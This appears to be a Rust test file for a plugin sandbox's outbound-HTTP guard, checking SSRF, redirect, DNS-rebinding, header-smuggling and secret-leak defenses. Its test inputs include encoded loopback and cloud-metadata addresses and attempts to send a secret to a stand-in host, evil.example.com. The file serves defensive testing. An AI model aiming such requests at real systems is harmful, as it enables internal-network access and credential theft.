//! Attacks, each through both interfaces by which a plugin asks other servers: the contract's `http`, and `wasi:http/outgoing-handler`. There is one
//! guard behind them, and here is shown that neither leads around it.

use std::time::Duration;

use cofferdam::sandbox::{Exhausted, FaultKind, Limits, PreOutcome};
use data_encoding::{BASE64, HEXLOWER};
use serde_json::{Value, json};

use super::world::{CANARY, PUBLIC, World, ok, redirect};
use super::{Sandbox, exchange, patient};

pub(super) const GET: &str = "GET https://api.example.com/";

/// An interface, by the guest that uses it.
#[derive(Clone, Copy, Debug, PartialEq)]
pub(super) enum By {
    Contract,
    Web,
}

pub(super) const BOTH: [By; 2] = [By::Contract, By::Web];

impl By {
    pub(super) fn guest(self) -> &'static str {
        match self {
            Self::Contract => "http_asker",
            Self::Web => "web_asker",
        }
    }

    pub(super) async fn asker(self, world: &World, grant: Value) -> Asker {
        self.limited(world, grant, patient()).await
    }

    async fn limited(self, world: &World, grant: Value, limits: Limits) -> Asker {
        Asker { by: self, sandbox: Sandbox::open(self.guest(), world, Some(grant), limits).await }
    }

    /// What the guest says that it got.
    pub(super) fn got(self, (exchange, outcome): super::Ran) -> String {
        match (self, outcome) {
            (Self::Contract, Ok(PreOutcome::Respond(message))) => message.joined_text(),
            (Self::Web, Ok(PreOutcome::Proceed)) => exchange.messages[0].joined_text(),
            (_, Ok(_)) => panic!("no answer"),
            (_, Err(kind)) => panic!("{kind}"),
        }
    }
}

pub(super) struct Asker {
    by: By,
    pub(super) sandbox: Sandbox,
}

impl Asker {
    pub(super) async fn got(&self, request: &str) -> String {
        self.by.got(self.sandbox.run(exchange(request)).await)
    }

    async fn is_denied(&self, request: &str) {
        let got = self.got(request).await;
        let told = match self.by {
            By::Contract => got.contains("Denied("),
            By::Web => got == "ErrorCode::HttpRequestDenied",
        };
        assert!(told, "{:?} {request}: {got}", self.by);
    }

    /// It makes no sense to the guard, or to what the guest makes of it.
    async fn is_invalid(&self, request: &str) {
        let got = self.got(request).await;
        let told = match self.by {
            By::Contract => got.contains("Invalid("),
            By::Web => got.starts_with("ErrorCode::") && got != "ErrorCode::HttpRequestDenied",
        };
        assert!(told, "{:?} {request}: {got}", self.by);
    }

    async fn is_late(&self, request: &str) {
        let got = self.got(request).await;
        let told = match self.by {
            By::Contract => got.contains("Timeout("),
            By::Web => got == "ErrorCode::HttpResponseTimeout",
        };
        assert!(told, "{:?} {request}: {got}", self.by);
    }
}

pub(super) fn granted() -> Value {
    json!({"hosts": ["api.example.com"]})
}

pub(super) fn public() -> World {
    World::new(|_| ok("hello")).name("api.example.com", &[&[PUBLIC]])
}

#[tokio::test]
async fn without_the_grant_it_is_refused_at_load_with_the_lines_that_would_allow_it() {
    for (by, interface, entry) in
        [(By::Contract, "cofferdam:hooks/http@0.2.0", "http-asker"), (By::Web, "wasi:http/outgoing-handler@0.2.0", "web-asker")]
    {
        let sandbox = Sandbox::open(by.guest(), &public(), None, patient()).await;
        let reason = sandbox.registry.status()[0].reason.clone().expect("a refusal");
        let remedy = format!("add `grants.http = {{ hosts = [\"api.example.com\"] }}` to `[plugins.{entry}]`");
        assert_eq!(reason, format!("it imports {interface}: `http` must be granted; if the plugin may have it, {remedy}"));
    }
}

#[tokio::test]
async fn what_is_granted_is_sent_whole_and_answered_whole() {
    for by in BOTH {
        let answer = |_: &str| Some("HTTP/1.1 404 x\r\nX-One: 1\r\ncontent-length: 5\r\n\r\nwhole".into());
        let world = World::new(answer).name("api.example.com", &[&[PUBLIC]]);
        let asker = by.asker(&world, granted()).await;
        let got = asker.got("POST https://api.example.com/a?b=c\nx-two: 2\ncontent-length: 4\n\nbody").await;
        assert_eq!(got, "404\nx-one: 1\n\nwhole", "{by:?}");
        let request = &world.requests()[0];
        assert!(request.starts_with("POST /a?b=c HTTP/1.1\r\nhost: api.example.com\r\n"), "{request}");
        assert!(request.contains("x-two: 2\r\n") && request.ends_with("\r\n\r\nbody"), "{request}");
        assert_eq!(request.matches("content-length").count(), 1, "{request}");
        assert_eq!(world.connections(), [format!("{PUBLIC}:443")]);
        let body = "x".repeat(900_000);
        asker.got(&format!("POST https://api.example.com/\n\n{body}")).await;
        assert!(world.requests()[1].ends_with(&body), "{by:?}");
    }
}

#[tokio::test]
async fn an_address_inside_is_not_reached_in_whatever_way_it_is_written_or_found() {
    let hosts = [
        "127.0.0.1",
        "169.254.169.254",
        "[::ffff:127.0.0.1]",
        "[::1]",
        "10.0.0.7",
        "100.64.0.1",
        "192.168.0.1",
        "[fd00:ec2::254]",
        "[64:ff9b::7f00:1]",
        "0.0.0.0",
        "2130706433",
        "0x7f.1",
        "0177.0.0.1",
        "inside.example.com",
        "metadata.example.com",
        "mapped.example.com",
    ];
    let world = World::new(|_| ok("secrets of the inside"))
        .name("inside.example.com", &[&["10.1.2.3"]])
        .name("metadata.example.com", &[&["169.254.169.254"]])
        .name("mapped.example.com", &[&["::ffff:127.0.0.1"]]);
    for by in BOTH {
        let asker = by.asker(&world, json!({"hosts": hosts, "plain": true})).await;
        for host in hosts {
            for scheme in ["http", "https"] {
                asker.is_denied(&format!("GET {scheme}://{host}/")).await;
            }
        }
    }
    assert_eq!(world.connections(), Vec::<String>::new());
}

#[tokio::test]
async fn what_is_not_granted_is_denied_and_what_makes_no_sense_is_not_sent() {
    let world = public().name("evil.example.com", &[&[PUBLIC]]);
    for by in BOTH {
        let asker = by.asker(&world, granted()).await;
        for request in [
            "GET https://evil.example.com/",
            "GET http://api.example.com/",
            "GET https://api.example.com:8443/",
            "GET https://api.example.com/\nx: {{secret:KEY}}",
        ] {
            asker.is_denied(request).await;
        }
        for request in [
            "GET ftp://api.example.com/",
            "CONNECT https://api.example.com/",
            "BREW https://api.example.com/",
            "GET https://user:password@api.example.com/",
            "GET https://api.example.com/\nhost: evil",
            "GET https://api.example.com/\ntransfer-encoding: chunked",
            "GET https://api.example.com/\nte: trailers",
            "GET https://api.example.com/{{secret:KEY}}",
        ] {
            asker.is_invalid(request).await;
        }
    }
    assert_eq!(world.connections(), Vec::<String>::new());
}

#[tokio::test]
async fn a_redirect_inside_and_a_name_that_changes_its_address_lead_nowhere() {
    let inside = ["127.0.0.1", "[::ffff:127.0.0.1]", "169.254.169.254", "inside.example.com"];
    let hosts: Vec<_> = inside.into_iter().chain(["api.example.com"]).collect();
    for by in BOTH {
        for to in inside.map(|host| format!("https://{host}/latest/")).into_iter().chain(["http://api.example.com/".to_owned()]) {
            let shown = to.clone();
            let world =
                World::new(move |_| redirect(&to)).name("api.example.com", &[&[PUBLIC]]).name("inside.example.com", &[&["10.0.0.1"]]);
            by.asker(&world, json!({"hosts": hosts, "plain": true})).await.is_denied(GET).await;
            assert_eq!(world.connections(), [format!("{PUBLIC}:443")], "{by:?} {shown}");
        }
        // Also where servers keep their connections: the one to the first address is not used any more.
        for of in [World::new as fn(_) -> _, World::staying] {
            let answer: fn(&str) -> Option<String> = |_| ok("hello");
            let world: World = of(answer).name("api.example.com", &[&[PUBLIC], &["127.0.0.1"]]);
            let asker = by.asker(&world, granted()).await;
            assert!(asker.got(GET).await.starts_with("200"));
            asker.is_denied(GET).await;
            assert_eq!((world.connections(), world.requests().len()), (vec![format!("{PUBLIC}:443")], 1), "{by:?}");
        }
    }
}

#[tokio::test]
async fn no_secret_reaches_the_memory_of_a_plugin_or_a_host_that_it_is_not_for() {
    let forms = || {
        let (base64, hex) = (BASE64.encode(CANARY.as_bytes()), HEXLOWER.encode(CANARY.as_bytes()));
        [CANARY.to_owned(), base64, hex, CANARY.replace('/', "%2F").replace('+', "%2B"), CANARY.replace('/', "\\/")]
    };
    let grant = json!({"hosts": ["api.example.com", "evil.example.com"], "secrets": {"KEY": ["api.example.com"]}});
    for by in BOTH {
        let echo = move |request: &str| {
            let body = request.split_once("\r\n\r\n").map_or("", |(_, body)| body);
            let echoed = format!("{request}|{body}|{}", forms().join("|"));
            Some(format!("HTTP/1.1 401 x\r\nx-echo: {CANARY}\r\ncontent-length: {}\r\n\r\n{echoed}", echoed.len()))
        };
        let world = World::new(echo).name("api.example.com", &[&[PUBLIC]]).name("evil.example.com", &[&[PUBLIC]]);
        let asker = by.asker(&world, grant.clone()).await;
        let text = "POST https://api.example.com/\nauthorization: Bearer {{secret:KEY}}\n\nthe key is {{secret:KEY}}";
        let got = asker.got(text).await;
        assert_eq!(world.requests()[0].matches(CANARY).count(), 2, "the host got it in the header and in the body");
        for form in forms() {
            assert!(!got.contains(&form), "{by:?}: {form} is in {got}");
        }
        assert!(got.contains("x-echo: [hidden]") && got.contains("the key is [hidden]"), "{by:?}: {got}");
        for request in ["POST https://evil.example.com/\nx: {{secret:KEY}}", "POST https://evil.example.com/\n\n{{secret:KEY}}"] {
            asker.is_denied(request).await;
        }
        assert_eq!(world.connections().len(), 1);

        // A redirect takes no secret along to another host; a body with one is not sent on.
        let sends_on = |request: &str| if request.contains("host: evil") { ok("got it") } else { redirect("https://evil.example.com/") };
        let world = World::new(sends_on).name("api.example.com", &[&[PUBLIC]]).name("evil.example.com", &[&[PUBLIC]]);
        let asker = by.asker(&world, grant.clone()).await;
        asker.got("GET https://api.example.com/\nx-key: {{secret:KEY}}").await;
        asker.is_denied("POST https://api.example.com/\n\n{{secret:KEY}}").await;
        let evil: Vec<_> = world.requests().into_iter().filter(|request| request.contains("host: evil")).collect();
        assert_eq!((evil.len(), evil[0].contains(CANARY)), (1, false), "{by:?}: {evil:?}");
    }
}

#[tokio::test]
async fn a_body_of_a_request_and_of_a_reply_has_its_limit_and_not_one_byte_more() {
    for by in BOTH {
        let asker = by.asker(&public(), json!({"hosts": ["api.example.com"], "request_bytes": 70_000})).await;
        let post = |bytes: usize| format!("POST https://api.example.com/\n\n{}", "x".repeat(bytes));
        assert!(asker.got(&post(70_000)).await.starts_with("200"), "{by:?}");
        let got = asker.got(&post(70_001)).await;
        assert!(got.contains("grants.http.request_bytes"), "{by:?}: {got}");
        for (most, fits) in [(5, true), (4, false)] {
            let asker = by.asker(&public(), json!({"hosts": ["api.example.com"], "response_bytes": most})).await;
            let got = asker.got(GET).await;
            assert_eq!((got.starts_with("200"), got.contains("grants.http.response_bytes")), (fits, !fits), "{by:?}: {got}");
        }
    }
}

#[tokio::test]
async fn a_server_that_says_nothing_costs_a_guest_its_waiting_and_nobody_else_anything() {
    let silent = || World::new(|_| None).name("api.example.com", &[&[PUBLIC]]);
    for by in BOTH {
        // The time of the grant is a failure that the guest can tell apart; the limit of waiting ends the guest.
        by.asker(&silent(), json!({"hosts": ["api.example.com"], "time": "20ms"})).await.is_late(GET).await;
        by.asker(&silent(), granted()).await.is_late(&format!("{GET}\ntimeout-ms: 20")).await;
        let (world, wait) = (silent(), Duration::from_millis(50));
        let asker = by.limited(&world, granted(), Limits { wait, ..patient() }).await;
        let fault = asker.sandbox.run(exchange(GET)).await.1.expect_err("a fault");
        assert_eq!(fault, FaultKind::Exhausted(Exhausted::Wait(wait)), "{by:?}");
        world.hung_up().await;
    }
}

#[tokio::test]
async fn a_call_that_is_given_up_hangs_up_on_whoever_it_asked() {
    for by in BOTH {
        let world = World::new(|_| None).name("api.example.com", &[&[PUBLIC]]);
        let asker = by.asker(&world, granted()).await;
        tokio::select! {
            _ = asker.sandbox.run(exchange(GET)) => panic!("nobody answers"),
            () = world.received() => {}
        }
        world.hung_up().await;
    }
}
